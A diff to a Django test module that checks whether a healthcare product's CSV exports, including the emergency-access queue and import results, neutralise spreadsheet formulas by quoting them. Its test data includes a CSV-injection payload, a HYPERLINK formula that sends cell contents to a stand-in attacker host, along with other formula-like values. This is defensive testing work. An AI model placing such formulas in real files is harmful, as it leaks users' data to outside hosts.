@@ -1,5 +1,7 @@
 """Every CSV the product writes is safe to open in a spreadsheet: a cell that would be read as a
-formula comes out behind a single quote (OWASP's advice on CSV injection)."""
+formula comes out behind a single quote (OWASP's advice on CSV injection), whichever export
+wrote it (the access report, the emergency-access queue, the relationship import's results),
+because every one of them writes through records.safe_csv."""
 
 import csv
 import io
@@ -11,8 +13,9 @@ from django.urls import reverse
 
 from access import services
 from access.models import Role, Team
-from audit.csv_export import csv_lines, neutralised
+from records.safe_csv import csv_lines, neutralised
 from tests.factories import PatientFactory, UserFactory, make_team, member
+from tests.import_helpers import check, run
 
 FORMULAS = [
     '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
@@ -70,8 +73,67 @@ def test_every_csv_the_product_writes_goes_through_the_one_helper():
     root = Path(__file__).resolve().parent.parent
     writers = [
         str(path.relative_to(root))
-        for app in ("access", "audit", "records", "lcr", "demo")
+        for app in ("partner_api", "records", "access", "audit", "care_record", "lcr", "demo")
         for path in (root / app).rglob("*.py")
         if re.search(r"csv\.(writer|DictWriter)\b", path.read_text())
     ]
-    assert writers == ["audit/csv_export.py"]
+    assert writers == ["records/safe_csv.py"]
+
+
+def _rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def _no_formula(rows: list[list[str]]) -> bool:
+    return not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
+    )
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_team_named_like_a_formula_is_neutralised_in_the_emergency_access_queue_csv(client, name):
+    ward = make_team(name, Team.Kind.AE_DEPARTMENT, ods_code="+44")
+    privacy = make_team("Privacy office", Team.Kind.RECORD_OFFICE, ods_code="LCR")
+    services.break_glass(
+        user=member(ward, Role.AE_CLINICIAN, "@doctor"), team=ward, patient=PatientFactory(),
+        reason="other", explanation="-unconscious, brought in by ambulance",
+    )  # fmt: skip
+    client.force_login(member(privacy, Role.PRIVACY_OFFICER, "officer"))
+
+    response = client.get(reverse("audit-review-queue-csv"))
+
+    rows = _rows(b"".join(response.streaming_content).decode())
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert "'" + name in row.values() and "'+44" in row.values() and "'@doctor" in row.values()
+    assert "'-unconscious, brought in by ambulance" in row.values()
+    assert _no_formula(rows)
+
+
+@pytest.mark.django_db
+# (The import strips the spaces round a cell, so a team's name read from one has none.)
+@pytest.mark.parametrize("name", [formula for formula in FORMULAS if formula == formula.strip()])
+def test_a_team_named_like_a_formula_is_neutralised_in_the_import_results_csv(client, name):
+    make_team(name, Team.Kind.COMMUNITY_TEAM, ods_code="=2+2")
+    office = make_team("Record office", Team.Kind.RECORD_OFFICE, ods_code="LCR")
+    client.force_login(member(office, Role.ADMINISTRATOR, "office-admin"))
+    patient = PatientFactory()
+    person = UserFactory(username="@nurse")
+    text = io.StringIO()
+    csv.writer(text).writerows([
+        ["nhs_number", "team_ods_code", "team_name", "username", "kind", "reason"],
+        [patient.nhs_number, "=2+2", name, "", "referral", "wound care"],
+        [patient.nhs_number, "", "", person.username, "referral", "=visits"],
+    ])  # fmt: skip
+    kept = check(client, text.getvalue(), name="=cmd.csv")
+    results_csv = reverse("manage-import-results-csv", kwargs={"import_id": kept.pk})
+    check_csv = client.get(results_csv)
+    run(client, kept)
+
+    response = client.get(results_csv)
+
+    for written in (check_csv, response):
+        rows = _rows(b"".join(written.streaming_content).decode())
+        holders = [dict(zip(rows[0], row, strict=True))["team_or_person"] for row in rows[1:]]
+        assert holders == [f"'{name} (=2+2)", "'@nurse"]
+        assert _no_formula(rows)
